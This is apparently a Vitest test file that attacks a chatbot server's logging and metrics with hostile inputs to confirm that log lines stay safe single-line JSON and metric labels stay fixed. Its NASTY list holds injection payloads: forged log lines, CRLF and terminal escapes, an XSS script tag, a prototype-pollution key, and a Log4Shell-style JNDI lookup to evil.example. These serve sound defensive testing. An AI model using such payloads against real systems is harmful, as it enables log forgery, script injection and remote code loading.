// What strangers and tools send reaches the log and the metrics only as values that can do no harm: one JSON line for each
// event, known fields, nothing longer than 256 characters, and series that were there before whoever came.

import { mkdtemp, rm } from "node:fs/promises";
import { createServer, METHODS, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { listenOnLoopback } from "../../../demo/src/listen-on-loopback.ts";
import { createScriptedClaude, type ScriptedClaude } from "../../../demo/src/scripted-claude/server.ts";
import { loadConfig } from "../../src/config.ts";
import { type RunningServer, startServer } from "../../src/main.ts";
import { createLogger } from "../../src/observe/logger.ts";
import { createTokenTable, environmentOfTokens } from "../fixtures/token-table.ts";
import { sendRaw } from "./malformed-request.ts";

/** Fields that a line may have: fixed names, whatever is sent. */
const FIELDS = new Set(
  "level time msg method route status duration_ms request_id user url model signal error variable server tool outcome code reason where turn what warning checkpoint degraded stderr".split(
    " ",
  ),
);
const FORGED = '{"level":60,"msg":"forged"}';
/** As a header can carry them; HTTP itself refuses line breaks. */
const NASTY = [
  FORGED,
  `\\n${FORGED}`,
  "%0d%0a%7b%22level%22%3a60%7d",
  "\t\t\t",
  "\u009b2J\u0085\u00ad",
  "x".repeat(8000),
  '","level":60,"x":"',
  "$".concat("{jndi:ldap://evil.example/a}"),
  "__proto__",
  "<script>alert(1)</script>",
];

describe("A server to which hostile values are sent", () => {
  let directory: string;
  let claude: ScriptedClaude;
  let broken: Server;
  let server: RunningServer;
  const written: string[] = [];
  const { token } = createTokenTable(Math.floor(Date.now() / 1000), "https://host.example/keys");

  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), "chat-bot-log-"));
    claude = await createScriptedClaude({ delayMs: 0 });
    // Answers in lines, terminal sequences and megabytes.
    broken = createServer((_request, response) => {
      response.writeHead(500, { "Content-Type": "text/plain" });
      response.end(`\r\n${FORGED}\r\n\u001b[2J\u202e${"x".repeat(1_000_000)}`);
    });
    const url = await listenOnLoopback(broken, 0);
    const file = { mcpServers: { broken: { type: "http", url } }, revocations: { url } };
    const env = { ...environmentOfTokens(claude.url), METRICS_TOKEN: "metrics" };
    const logger = createLogger("trace", { write: (text) => void written.push(text) });
    const { revocations: _, ...withoutRevocations } = file;
    // One that can revoke nothing refuses everybody, and says why; the other one is talked to.
    const closed = await startServer(
      loadConfig(env, () => JSON.stringify(file), directory),
      logger,
    );
    await closed.stop();
    server = await startServer(
      loadConfig(env, () => JSON.stringify(withoutRevocations), directory),
      logger,
    );
  });

  afterAll(async () => {
    await server.stop();
    broken.closeAllConnections();
    broken.close();
    await claude.stop();
    await rm(directory, { recursive: true, force: true });
  });

  /** A request as bytes, so that nothing is mended on the way. Each ends its connection. */
  function raw(method: string, path: string, headers: string[], body = ""): Promise<string> {
    const lines = [`${method} ${path} HTTP/1.1`, "Host: a", "Connection: close", ...headers];
    return sendRaw(
      server.url,
      `${lines.join("\r\n")}\r\nContent-Length: ${Buffer.byteLength(body, "latin1")}\r\n\r\n${body}`,
    );
  }

  async function attack(): Promise<void> {
    const bearer = `Authorization: Bearer ${token()}`;
    for (const [index, value] of NASTY.entries()) {
      const path = `/${encodeURIComponent(value).slice(0, 4000)}`;
      await Promise.all([
        raw("GET", path, []),
        raw("GET", `/api/chatbot/conversations${path}`, [bearer]),
        raw("GET", `/api/chatbot/conversations?cursor=${encodeURIComponent(value)}`, [bearer]),
        raw("GET", `/widget${path}`, []),
        raw(METHODS[index] ?? "GET", "/api/chatbot/message", [bearer]),
        raw("GET", "/api/chatbot/session", [`Authorization: Bearer ${value}`]),
        raw("GET", "/health", [`X-Request-Id: ${value}`, `User-Agent: ${value}`, `X-Forwarded-For: ${value}`]),
        raw("GET", "/api/chatbot/session", [
          `Authorization: Bearer ${token({ sub: value.slice(0, 200).replace(/\p{Cc}/gu, "") || "s", name: "n" })}`,
          `Origin: ${value}`,
          `Accept-Language: ${value}`,
        ]),
        raw(
          "POST",
          "/api/chatbot/message",
          [bearer, "Content-Type: application/json"],
          JSON.stringify({ [value]: value }),
        ),
        raw("POST", "/api/chatbot/message", [bearer, `Content-Type: ${value}`], "x"),
        raw(value, "/", []),
      ]);
    }
    // The model names tools that there are not.
    for (const name of ["x".repeat(64), "no_such_tool", "constructor"]) {
      const steps = [{ text: "a", tool_use: [{ name, input: { "\n": "\u001b" } }] }, { text: "b" }];
      const answer = await fetch(`${server.url}/api/chatbot/message`, {
        method: "POST",
        headers: { Authorization: `Bearer ${token({ sub: name })}`, "Content-Type": "application/json" },
        body: JSON.stringify({ message: `script:${JSON.stringify(steps)}` }),
      });
      expect(await answer.text()).toContain("event: done");
    }
  }

  /** Names and labels of everything that is counted about the chatbot. */
  async function series(): Promise<string[]> {
    const page = await fetch(`${server.url}/metrics`, { headers: { Authorization: "Bearer metrics" } });
    const lines = (await page.text()).split("\n").filter((line) => line.startsWith("chatbot_"));
    return lines.map((line) => line.slice(0, line.lastIndexOf(" "))).toSorted();
  }

  it("writes one line of JSON for each event, with known fields and short, harmless values", async () => {
    await attack();
    expect(written.length).toBeGreaterThan(100);
    for (const text of written) {
      expect(text.indexOf("\n")).toBe(text.length - 1);
      const line = JSON.parse(text) as Record<string, unknown>;
      expect(Object.keys(line).filter((name) => !FIELDS.has(name))).toEqual([]);
      expect(line["level"]).not.toBe(60);
      for (const value of Object.values(line)) {
        if (typeof value === "number" || typeof value === "boolean" || value === null) continue;
        if (typeof value !== "string") expect.unreachable(`a value is no text: ${text}`);
        expect(value.length).toBeLessThanOrEqual(257);
        expect(value).not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
      }
    }
    expect(written.join("")).toContain("the revocations could not be loaded");
  });

  it("counts by fixed labels: a second wave makes no series that the first one has not made", async () => {
    // The page that is asked for is counted, too.
    await series();
    const before = await series();
    await attack();
    expect(await series()).toEqual(before);
    const labels = before.flatMap((line) =>
      [...line.matchAll(/(\w+)="([^"]*)"/g)].map(([, name, value]) => [name, value]),
    );
    expect(new Set(labels.map(([name]) => name))).toEqual(
      new Set(["route", "status", "reason", "outcome", "kind", "le", "server"]),
    );
    const routes = new Set(labels.filter(([name]) => name === "route").map(([, value]) => value));
    for (const route of routes)
      expect(route).toMatch(/^(?:other|\/(?:[a-z]+|:[a-z]+|\.well-known)(?:\/(?:[a-z]+|:[a-z]+))*)$/);
    expect(before.length).toBeLessThan(150);
  });
});
